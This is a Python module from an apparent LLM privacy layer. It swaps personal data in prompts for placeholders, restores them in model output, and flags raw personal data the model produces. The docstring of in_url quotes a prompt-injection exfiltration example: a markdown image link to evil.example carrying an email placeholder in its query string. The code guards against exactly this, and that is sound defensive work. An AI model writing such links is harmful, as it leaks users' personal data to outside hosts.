"""Transform (pseudonymise) prompts, rehydrate answers, protect output.

The session mapping is plain data (``Session.to_dict``) so it can travel anywhere: the
host seals it into a client-held blob, the browser keeps it in memory. Placeholders are
deterministic within a session (same value -> same ``{{type:n}}``), so an LLM that
repeats a placeholder gets the same value back, and rehydration tolerates the damage LLMs
typically do to them (spaces, case, escaped braces).
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Mapping, Sequence
from typing import Any

from haltguard.kernel.detector import Finding
from haltguard.kernel.ner import Entity as NameEntity
from haltguard.kernel.placeholders import PLACEHOLDER, PLACEHOLDER_MAX_LEN
from haltguard.kernel.policy import EntityRule, Policy

__all__ = [
    "Session",
    "Entity",
    "TransformResult",
    "RehydrateResult",
    "ProtectionResult",
    "BlockedInput",
    "BlockedOutput",
    "transform",
    "rehydrate",
    "StreamingRehydrator",
    "protect_output",
    "mask_value",
    "PLACEHOLDER_MAX_LEN",
]

DELETED = "[DELETED]"


class BlockedInput(ValueError):
    """The policy says ``block`` for an entity found in the input."""

    def __init__(self, findings: list[Finding]) -> None:
        where = ", ".join(f"{f.type} at {f.start}-{f.end}" for f in findings)
        super().__init__(f"input blocked by policy: {where}")
        self.findings = findings


class BlockedOutput(ValueError):
    """Output protection in strict/block mode found raw personal data in the model output."""

    def __init__(self, findings: list[Finding]) -> None:
        where = ", ".join(f"{f.type} at {f.start}-{f.end}" for f in findings)
        super().__init__(f"output blocked by policy: {where}")
        self.findings = findings


def mask_value(value: str, keep_last: int = 4, mask_char: str = "*") -> str:
    """Mask letters and digits except the last ``keep_last`` of them; separators stay."""
    total = sum(1 for c in value if c.isalnum())
    keep_from = total - keep_last
    out, seen = [], 0
    for c in value:
        if c.isalnum():
            out.append(c if seen >= keep_from else mask_char)
            seen += 1
        else:
            out.append(c)
    return "".join(out)


class Session:
    """Placeholder <-> value mapping for one conversation. Plain, serialisable data."""

    def __init__(self, session_id: str = "", entries: Mapping[str, Mapping[str, str]] | None = None) -> None:
        self.session_id = session_id
        self.entries: dict[str, dict[str, str]] = {k: dict(v) for k, v in (entries or {}).items()}
        self._by_value: dict[tuple[str, str], str] = {}
        self._counters: dict[str, int] = {}
        for ph, e in self.entries.items():
            self._by_value[(e["type"], e["value"])] = ph
            m = PLACEHOLDER.fullmatch(ph)
            if m:
                n = int(m.group(2))
                self._counters[e["type"]] = max(self._counters.get(e["type"], 0), n)

    def placeholder(self, entity_type: str, value: str, restore: str, masked: str) -> str:
        key = (entity_type, value)
        ph = self._by_value.get(key)
        if ph is None:
            n = self._counters.get(entity_type, 0) + 1
            self._counters[entity_type] = n
            ph = "{{%s:%d}}" % (entity_type, n)
            self._by_value[key] = ph
            self.entries[ph] = {"type": entity_type, "value": value, "restore": restore, "masked": masked}
        return ph

    def lookup(self, entity_type: str, index: str) -> dict[str, str] | None:
        return self.entries.get("{{%s:%d}}" % (entity_type.lower(), int(index)))

    def to_dict(self) -> dict[str, Any]:
        return {"session_id": self.session_id, "entries": {k: dict(v) for k, v in self.entries.items()}}

    @classmethod
    def from_dict(cls, data: Mapping[str, Any]) -> Session:
        if not isinstance(data, Mapping) or not isinstance(data.get("entries", {}), Mapping):
            raise ValueError("session must be an object with an 'entries' object")
        entries = data.get("entries", {})
        for ph, e in entries.items():
            if not isinstance(e, Mapping) or not {"type", "value"} <= set(e):
                raise ValueError(f"session entry {ph!r} needs 'type' and 'value'")
            if not all(isinstance(e.get(k, ""), str) for k in ("type", "value", "restore", "masked")):
                raise ValueError(f"session entry {ph!r}: type, value, restore and masked must be strings")
        return cls(str(data.get("session_id", "")), {k: {"restore": "original", "masked": v["value"], **v} for k, v in entries.items()})


class Entity:
    """One transformed entity: what replaced which span of the input."""

    __slots__ = ("token", "type", "start", "end", "action", "score")

    def __init__(self, token: str, type: str, start: int, end: int, action: str, score: float) -> None:
        self.token, self.type, self.start, self.end, self.action, self.score = token, type, start, end, action, score

    def to_dict(self) -> dict[str, Any]:
        return {"token": self.token, "type": self.type, "span": {"start": self.start, "end": self.end},
                "action": self.action, "score": self.score}


class TransformResult:
    __slots__ = ("safe_text", "entities", "session")

    def __init__(self, safe_text: str, entities: list[Entity], session: Session) -> None:
        self.safe_text, self.entities, self.session = safe_text, entities, session

    def to_dict(self) -> dict[str, Any]:
        return {"safe_text": self.safe_text, "entities": [e.to_dict() for e in self.entities],
                "session": self.session.to_dict()}


LITERAL_TYPE = "placeholder"  # a user-typed look-alike, kept as text: see ``transform``


def _replacement(f: Finding, rule: EntityRule, session: Session) -> str:
    if rule.action == "tokenize":
        return session.placeholder(f.type, f.value, rule.restore, mask_value(f.value, rule.keep_last, rule.mask_char))
    if rule.action == "mask":
        return mask_value(f.value, rule.keep_last, rule.mask_char)
    if rule.action == "redact":
        return f"[REDACTED:{f.type}]"
    return f.value  # allow


def transform(text: str, policy: Policy | None = None, session: Session | None = None,
              findings: list[Finding] | None = None) -> TransformResult:
    """Replace entities per the policy. Raises ``BlockedInput`` if any ``block`` entity is present."""
    policy = policy or Policy()
    session = session if session is not None else Session()
    if findings is None:
        findings = policy.findings(text)
    blocked = [f for f in findings if policy.rule_for(f.type).action == "block"]
    if blocked:
        raise BlockedInput(blocked)
    out: list[str] = []
    entities: list[Entity] = []
    pos = 0
    # A placeholder the user typed ("what is {{email:1}}?") must not come back as a real value:
    # it is itself put behind a placeholder of type "placeholder" whose value is the literal text.
    literals = [(m.start(), m.end()) for m in PLACEHOLDER.finditer(text)
                if not any(f.start < m.end() and m.start() < f.end for f in findings)] if "{" in text else []
    spans: list[tuple[int, int, Finding | None]] = sorted(
        [(f.start, f.end, f) for f in findings] + [(a, b, None) for a, b in literals], key=lambda x: x[0])
    for start, end, f in spans:
        out.append(text[pos:start])
        pos = end
        if f is None:
            out.append(session.placeholder(LITERAL_TYPE, text[start:end], "original", text[start:end]))
            continue
        rule = policy.rule_for(f.type)
        rep = _replacement(f, rule, session)
        out.append(rep)
        entities.append(Entity(rep, f.type, f.start, f.end, rule.action, f.score))
    out.append(text[pos:])
    return TransformResult("".join(out), entities, session)


class RehydrateResult:
    __slots__ = ("text", "restored", "unknown", "deleted")

    def __init__(self, text: str, restored: int, unknown: list[str], deleted: int) -> None:
        self.text, self.restored, self.unknown, self.deleted = text, restored, unknown, deleted

    def to_dict(self) -> dict[str, Any]:
        return {"restored_text": self.text, "restored": self.restored, "unknown_placeholders": self.unknown,
                "deleted": self.deleted}


Revoked = Callable[[str, str], bool]


def _restore(m: re.Match[str], session: Session, revoked: Revoked | None, stats: list[Any]) -> str:
    entry = session.lookup(m.group(1), m.group(2))
    if entry is None:
        stats[1].append(m.group(0))
        return m.group(0)
    if revoked is not None and revoked(entry["type"], entry["value"]):
        stats[2] += 1
        return DELETED
    stats[0] += 1
    mode = entry.get("restore", "original")
    if mode == "masked":
        return entry.get("masked", entry["value"])
    if mode == "label":
        return f"[{entry['type']}]"
    return entry["value"]


def _word_before(text: str, pos: int, before: str = "") -> str:
    """The run of non-space characters that ends at ``text[pos]`` (reaching into ``before``)."""
    i = pos
    while i and not text[i - 1].isspace():
        i -= 1
    if i:
        return text[i:pos]
    return _word_before(before, len(before)) + text[:pos] if before else text[:pos]


def in_url(word: str) -> bool:
    """Whether a placeholder right after ``word`` sits inside a link (it holds ``://`` or starts ``www.``).

    A model can be talked into writing ``![](https://evil.example/?q={{email:1}})``: filling
    that in would send the value to whoever owns the link as soon as the answer is shown.
    """
    return "://" in word or word.lstrip("([<\"'*_").lower().startswith("www.")


def rehydrate(output: str, session: Session, revoked: Revoked | Iterable[str] | None = None,
              before: str = "") -> RehydrateResult:
    """Put values back for placeholders; unknown ones stay and are reported, revoked ones become [DELETED].

    ``revoked`` is a predicate ``(type, value) -> bool`` (the host's HMAC store) or a set of values.
    A placeholder inside a link stays a placeholder (``in_url``; counted as unknown). ``before``: the
    text that came before ``output`` (a stream's earlier chunks), for that test.
    """
    if revoked is not None and not callable(revoked):
        gone = set(revoked)
        revoked = lambda _t, v: v in gone  # noqa: E731
    stats: list[Any] = [0, [], 0]
    links = "://" in output or "www." in output.lower() or "://" in before or "www." in before.lower()

    def sub(m: re.Match[str]) -> str:
        if links and in_url(_word_before(output, m.start(), before)):
            stats[1].append(m.group(0))
            return m.group(0)
        return _restore(m, session, revoked, stats)

    text = PLACEHOLDER.sub(sub, output)
    return RehydrateResult(text, stats[0], stats[1], stats[2])


class StreamingRehydrator:
    """Rehydrate a stream chunk by chunk without ever emitting part of a placeholder.

    Placeholders start with ``{`` or ``\\`` and are at most ``PLACEHOLDER_MAX_LEN`` long,
    so only a tail that starts with one of those characters within that distance of the
    end can still turn into a placeholder; everything before it is final. Concatenated
    outputs equal ``rehydrate`` of the whole text for any chunking.
    """

    def __init__(self, session: Session, revoked: Revoked | Iterable[str] | None = None) -> None:
        self.session = session
        self.revoked = revoked
        self._buf = ""
        self._before = ""  # the last word emitted so far (raw), for placeholders inside links
        self.restored = 0
        self.unknown: list[str] = []
        self.deleted = 0

    def feed(self, chunk: str) -> str:
        buf = self._buf + chunk
        n = len(buf)
        # A match attempt starting before `boundary` reads at most PLACEHOLDER_MAX_LEN
        # characters, all present: its outcome is final. Later starts may still change.
        boundary = n - PLACEHOLDER_MAX_LEN + 1
        cut = 0
        for m in PLACEHOLDER.finditer(buf):
            if m.start() >= boundary:
                break
            cut = m.end()
        i = max(cut, boundary, 0)
        while i < n:
            if buf[i] in "{\\":
                whole = PLACEHOLDER.match(buf, i)
                if whole is None:
                    break  # may still become a placeholder: hold from here
                i = whole.end()  # complete placeholders are final
            else:
                i += 1
        ready, self._buf = buf[:i], buf[i:]
        return self._emit(ready)

    def finish(self) -> str:
        rest, self._buf = self._buf, ""
        return self._emit(rest)

    @property
    def held(self) -> int:
        return len(self._buf)

    def _emit(self, text: str) -> str:
        if not text:
            return ""
        before, self._before = self._before, _word_before(text, len(text), self._before)
        r = rehydrate(text, self.session, self.revoked, before)
        self.restored += r.restored
        self.unknown += r.unknown
        self.deleted += r.deleted
        return r.text


class ProtectionResult:
    __slots__ = ("text", "findings", "action")

    def __init__(self, text: str, findings: list[Finding], action: str) -> None:
        self.text, self.findings, self.action = text, findings, action

    def to_dict(self) -> dict[str, Any]:
        return {"text": self.text, "findings": [f.to_dict() for f in self.findings], "action": self.action}


def protect_output(output: str, policy: Policy | None = None, names: Sequence[NameEntity] | None = None) -> ProtectionResult:
    """Find raw personal data in model output that did not come from a placeholder.

    Run it on the model's output *before* rehydration: anything detected outside a
    placeholder was produced by the model itself. ``strict`` redacts (or blocks),
    ``monitor`` reports only, ``off`` does nothing.
    """
    policy = policy or Policy()
    rule = policy.output_protection
    if rule.mode == "off":
        return ProtectionResult(output, [], "none")
    spans = [(m.start(), m.end()) for m in PLACEHOLDER.finditer(output)]
    findings = [
        f for f in policy.findings(output, names)
        if not any(a <= f.start < b or a < f.end <= b for a, b in spans)
        and policy.rule_for(f.type).action != "allow"
    ]
    if not findings or rule.mode == "monitor":
        return ProtectionResult(output, findings, "report" if findings else "none")
    if rule.action == "block":
        raise BlockedOutput(findings)
    out, pos = [], 0
    for f in findings:
        out.append(output[pos:f.start])
        out.append(f"[REDACTED:{f.type}]")
        pos = f.end
    out.append(output[pos:])
    return ProtectionResult("".join(out), findings, "redact")
